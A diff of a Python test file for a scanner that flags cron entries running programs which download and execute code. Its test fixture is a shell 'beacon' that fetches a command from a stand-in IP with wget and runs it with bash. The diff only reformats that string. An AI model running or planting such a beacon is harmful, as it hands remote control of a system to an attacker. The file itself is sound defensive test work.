@@ -8,11 +8,7 @@ from pathlib import Path
 
 from behaviour_files import scan_errors
 
-_BEACON = (
-    "#!/bin/sh\n"
-    "job=$(wget -qO- http://192.0.2.66/next 2>/dev/null) || exit 0\n"
-    'bash -c "$job"\n'
-)
+_BEACON = '#!/bin/sh\njob=$(wget -qO- http://192.0.2.66/next 2>/dev/null) || exit 0\nbash -c "$job"\n'
 
 
 def test_a_cron_entry_running_a_written_program_that_runs_downloads_is_an_error(tmp_path: Path) -> None:
